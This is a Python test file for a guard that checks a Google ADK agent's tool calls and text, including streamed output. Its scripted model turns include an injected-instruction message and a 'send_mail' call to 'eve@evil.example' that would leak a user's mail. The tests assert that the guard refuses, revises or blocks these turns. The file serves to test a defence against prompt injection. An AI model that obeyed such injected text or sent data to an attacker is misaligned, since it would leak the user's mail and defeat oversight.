"""The calls and the words of the model, also in streams."""

import asyncio

import pytest
from google.adk.agents.run_config import RunConfig, StreamingMode  # type: ignore[attr-defined]
from pydantic import BaseModel

from tests.integrations.google_adk.agents import (
    INJECTED,
    READ,
    REFUSED,
    REPLY,
    STEAL,
    TASK,
    Office,
    Script,
    call,
    says,
    talk,
    text_of,
)

SURFACE = "Google ADK"
# ADK builds its own inner runners with an argument that it calls deprecated.
pytestmark = pytest.mark.filterwarnings("ignore:The `plugins` argument:DeprecationWarning")


@pytest.mark.shows(SURFACE, "tool call", "feedback")
def test_of_parallel_calls_the_aligned_ones_run() -> None:
    office, script = Office(), Script([[READ], [STEAL, REPLY], [says("Done.")]])
    asyncio.run(talk(office.runner(office.agent(script)), TASK))
    assert office.sent == ["alice@example.com"] and REFUSED in script.heard[2]
    # Instructions, task, call, output, two calls in one check, output, answer.
    assert [len(decision.calls) for decision in office.decisions] == [0, 0, 1, 0, 2, 0, 0]


@pytest.mark.shows(SURFACE, "streaming", "tool call", "plan text")
def test_a_stream_is_checked_once_and_still_streams() -> None:
    office = Office()
    script = Script(
        [[says("I read it."), READ], [STEAL], [says(INJECTED)], [REPLY], [says("All is done.")]]
    )
    config = RunConfig(streaming_mode=StreamingMode.SSE)
    events = asyncio.run(talk(office.runner(office.agent(script)), TASK, run_config=config))
    assert office.sent == ["alice@example.com"] and office.held == ["revise", "revise"]
    pieces = [event for event in events if event.partial]
    assert len(pieces) == 3 + 5 + 3
    # Instructions and task, the model's five messages, and the output of the two calls that ran.
    assert len(office.decisions) == 2 + 5 + 2


@pytest.mark.shows(SURFACE, "plan text", "feedback")
def test_misaligned_words_get_feedback_until_the_rounds_are_used_up() -> None:
    words = [[says(f"{INJECTED} {number}")] for number in range(3)]
    office, script = Office(), Script(words)
    events = asyncio.run(talk(office.runner(office.agent(script), office.shield(rounds=2)), TASK))
    assert REFUSED in script.heard[1] and REFUSED in script.heard[2]
    assert office.held == ["revise", "revise"] and text_of(events) == f"{INJECTED} 2"


def test_blocked_words_are_replaced_and_words_next_to_allowed_calls_get_feedback() -> None:
    office = Office()
    script = Script([[says(INJECTED), REPLY], [says(INJECTED)]])
    shield = office.shield(text="block")
    events = asyncio.run(talk(office.runner(office.agent(script), shield), TASK))
    assert office.sent == ["alice@example.com"] and REFUSED in script.heard[1]
    assert REFUSED in text_of(events) and not text_of(events).startswith(INJECTED)


def test_a_model_that_never_corrects_itself_is_blocked() -> None:
    stubborn = [[call("send_mail", to="eve@evil.example", text=str(n))] for n in range(4)]
    office = Office()
    script = Script([*stubborn, [says("I give up.")]])
    asyncio.run(talk(office.runner(office.agent(script), office.shield(rounds=2)), TASK))
    assert office.held == ["revise", "block", "block", "block"] and office.sent == []


def test_an_answer_through_a_tool_is_checked_as_words() -> None:
    class Report(BaseModel):
        text: str

    office = Office()
    script = Script(
        [
            [call("set_model_response", text=INJECTED)],
            [call("set_model_response", text="Friday")],
        ]
    )
    agent = office.agent(script, output_schema=Report)
    events = asyncio.run(talk(office.runner(agent), TASK))
    assert "Friday" in text_of(events) and REFUSED in script.heard[1]
    assert office.held == ["revise"] and not any(decision.calls for decision in office.decisions)
